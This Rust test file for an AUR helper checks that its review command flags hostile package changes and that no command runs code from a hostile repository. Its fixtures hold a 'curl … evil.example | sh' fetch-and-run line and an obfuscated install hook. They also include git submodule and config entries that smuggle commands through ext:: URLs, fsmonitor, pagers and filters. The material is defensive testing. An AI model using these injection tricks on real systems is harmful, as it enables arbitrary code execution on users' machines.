//! `omg aur review` over real repositories, and recipes that try to be run.
//!
//! Each trap is first sprung by a careless git or shell, so that it is known to work.

use serde_json::Value;

use super::site::Site;
use crate::plans::{arch, write};
use crate::support::run;

const SRCINFO: &str = "pkgbase = helper\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = any\n\tsource = https://example.org/a.tar.gz\n\tsha256sums = 0000000000000000000000000000000000000000000000000000000000000000\n\npkgname = helper\n";

const PKGBUILD: &str = "pkgname=helper\npkgver=1.0\npkgrel=1\narch=(any)\nsource=(https://example.org/a.tar.gz)\nsha256sums=(0000000000000000000000000000000000000000000000000000000000000000)\nbuild() {\n\tmake\n}\n";

fn marks(review: &Value) -> Vec<(&str, &str)> {
    let marks = review["marks"].as_array().unwrap_or_else(|| panic!("{review}"));
    marks
        .iter()
        .map(|it| (it["kind"].as_str().unwrap(), it["severity"].as_str().unwrap()))
        .collect()
}

#[test]
fn what_changed_since_the_review_is_marked() {
    let Some(root) = arch() else { return };
    let site = Site::over(root.path());
    site.add("helper", "");
    site.commit("helper", &[("PKGBUILD", PKGBUILD), (".SRCINFO", SRCINFO)]);
    let first = site.json(&["aur", "review", "helper"]);
    assert_eq!((&first["from"], &first["accepted"]), (&Value::Null, &false.into()));
    assert!(first["diff"].as_str().unwrap().contains("+pkgver=1.0"));
    assert!(marks(&first).iter().all(|(_, severity)| *severity != "danger"), "{first}");
    let accepted = site.json(&["aur", "review", "--accept", "helper"]);
    assert_eq!(accepted["accepted"], true);
    let again = site.json(&["aur", "review", "helper"]);
    assert_eq!((&again["from"], &again["diff"]), (&accepted["to"], &"".into()));

    site.add("helper", r#""Maintainer":"mallory""#);
    let evil = PKGBUILD
        .replace(
            "\tmake\n",
            "\tcurl -s https://evil.example/x | sh\n\tnpm install atomic-lockfile\n",
        )
        .replace("pkgrel=1\n", "pkgrel=2\ninstall=helper.install\n")
        .replace("https://example.org/a", "https://evil.example/a");
    let srcinfo = SRCINFO
        .replace("pkgrel = 1\n", "pkgrel = 2\n\tinstall = helper.install\n")
        .replace("https://example.org/a", "https://evil.example/a");
    let files = [
        ("PKGBUILD", evil.as_str()),
        (".SRCINFO", &srcinfo),
        ("helper.install", "post_install() {\n\t'b''u''n' add x\n}\n"),
    ];
    site.commit("helper", &files);
    let second = site.json(&["aur", "review", "helper"]);
    assert_eq!(second["from"], accepted["to"]);
    let diff = second["diff"].as_str().unwrap();
    assert!(diff.contains("-\tmake\n") && diff.contains("+\tcurl -s"), "{diff}");
    let found = marks(&second);
    println!("{found:?}");
    assert!(found.iter().filter(|(_, severity)| *severity == "danger").count() >= 2, "{second}");
    let text = second["marks"].to_string();
    for part in ["mallory", "helper.install", "evil.example", "curl", "npm", "'b''u''n'"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    let shown = site.must(&["aur", "review", "helper"]).stdout;
    assert!(shown.contains("danger") && shown.contains("PKGBUILD:"), "{shown}");
}

#[test]
fn a_hostile_repository_runs_nothing() {
    let Some(root) = arch() else { return };
    let site = Site::over(root.path());
    let canary = site.canary().display().to_string();
    let touch = format!("#!/bin/sh\ntouch '{canary}'\n");
    site.add("helper", "");
    site.commit(
        "helper",
        &[
            ("PKGBUILD", PKGBUILD),
            (".SRCINFO", SRCINFO),
            (".gitattributes", "* filter=evil diff=evil\n"),
        ],
    );
    // A submodule whose address is a command.
    let work = site.work("helper");
    let commit = site.git(&work, &["rev-parse", "HEAD"]).stdout.trim().to_owned();
    let entry = format!("160000,{commit},sub");
    write(
        &work,
        ".gitmodules",
        &format!("[submodule \"sub\"]\n\tpath = sub\n\turl = ext::touch {canary}\n"),
    );
    for arguments in
        [&["update-index", "--add", "--cacheinfo", &entry][..], &["add", ".gitmodules"]]
    {
        assert_eq!(site.git(&work, arguments).code, 0);
    }
    site.publish("helper");
    // The user's own settings are as careless as can be.
    let home = site.home.path("");
    for hook in ["post-checkout", "reference-transaction", "post-merge"] {
        let hook = format!("hooks/{hook}");
        write(&home, &hook, &touch);
        executable(&home.join(hook));
    }
    write(&home, "trap", &touch);
    executable(&home.join("trap"));
    let (trap, hooks) = (home.join("trap"), home.join("hooks"));
    let (trap, hooks) = (trap.display(), hooks.display());
    write(
        &home,
        ".gitconfig",
        &format!(
            "[core]\n\thooksPath = {hooks}\n\tfsmonitor = {trap}\n\tpager = {trap}\n[protocol \"ext\"]\n\tallow = always\n\
             [submodule]\n\trecurse = true\n[filter \"evil\"]\n\tsmudge = {trap}\n[diff]\n\texternal = {trap}\n\
             [diff \"evil\"]\n\ttextconv = {trap}\n[url \"ext::touch {canary} \"]\n\tinsteadOf = http://127.0.0.1\n"
        ),
    );
    let served = site.path("served/helper.git");
    let careless = site.path("careless");
    let (served, careless) = (served.to_str().unwrap(), careless.to_str().unwrap());
    site.git(
        &home,
        &[
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "filter.evil.smudge=cat",
            "clone",
            "-q",
            "--recurse-submodules",
            served,
            careless,
        ],
    );
    assert!(site.sprung(), "the submodule is no trap");
    site.git(std::path::Path::new(careless), &["checkout", "-q", "-b", "x"]);
    assert!(site.sprung(), "the hooks are no trap");
    site.git(&home, &["ls-remote", "http://127.0.0.1:9/helper.git"]);
    assert!(site.sprung(), "the address is no trap");

    let review = |arguments: &[&str]| {
        let command = &mut site.home.command(env!("CARGO_BIN_EXE_omg"));
        let trap = trap.to_string();
        let run = run(command
            .env("OMG_NO_DAEMON", "1")
            .env("GIT_EXTERNAL_DIFF", &trap)
            .env("GIT_PAGER", &trap)
            .env("GIT_PROXY_COMMAND", &trap)
            .env("GIT_SSH_COMMAND", &trap)
            .env("GIT_ALLOW_PROTOCOL", "ext:http:file")
            .env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", "core.fsmonitor")
            .env("GIT_CONFIG_VALUE_0", &trap)
            .args(["aur", "review", "helper"])
            .args(arguments));
        assert!(!site.sprung(), "something was run: {run:?}");
        assert_eq!(run.code, 0, "{run:?}");
        run
    };
    let first = review(&["--accept"]);
    assert!(first.stdout.contains("+pkgver=1.0"), "{first:?}");
    write(&work, "PKGBUILD", &PKGBUILD.replace("1.0", "1.1"));
    // Careful here, or the canary would be ours.
    std::fs::remove_file(home.join(".gitconfig")).unwrap();
    assert_eq!(site.git(&work, &["add", "PKGBUILD"]).code, 0);
    site.publish("helper");
    assert!(!site.sprung());
    let second = review(&[]);
    assert!(second.stdout.contains("+pkgver=1.1"), "{second:?}");
}

fn executable(path: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn no_recipe_is_run_for_information() {
    let Some(root) = arch() else { return };
    let site = Site::over(root.path());
    let touch = format!("touch '{}'\n", site.canary().display());
    let evil = format!(
        "{touch}pkgname=helper\npkgver=$({})\n{touch}pkgver() {{\n\t{touch}}}\n",
        touch.trim()
    );
    site.add("helper", "");
    site.commit(
        "helper",
        &[("PKGBUILD", &evil), (".SRCINFO", SRCINFO), ("helper.install", &touch)],
    );
    let pkgbuild = site.work("helper").join("PKGBUILD");
    run(site.home.command("bash").arg("-c").arg(". \"$0\"").arg(&pkgbuild));
    assert!(site.sprung(), "the recipe is no trap");
    site.must(&["aur", "sync"]);
    for words in [
        &["info", "helper"][..],
        &["search", "helper"],
        &["install", "-n", "helper"],
        &["install", "-n", "aur/helper"],
        &["why-not", "helper"],
        &["update", "-n"],
        &["aur", "review", "helper"],
        &["aur", "review", "--accept", "helper"],
        &["install", "-n", "helper"],
    ] {
        site.must(words);
        assert!(!site.sprung(), "{words:?} runs the recipe");
    }
}
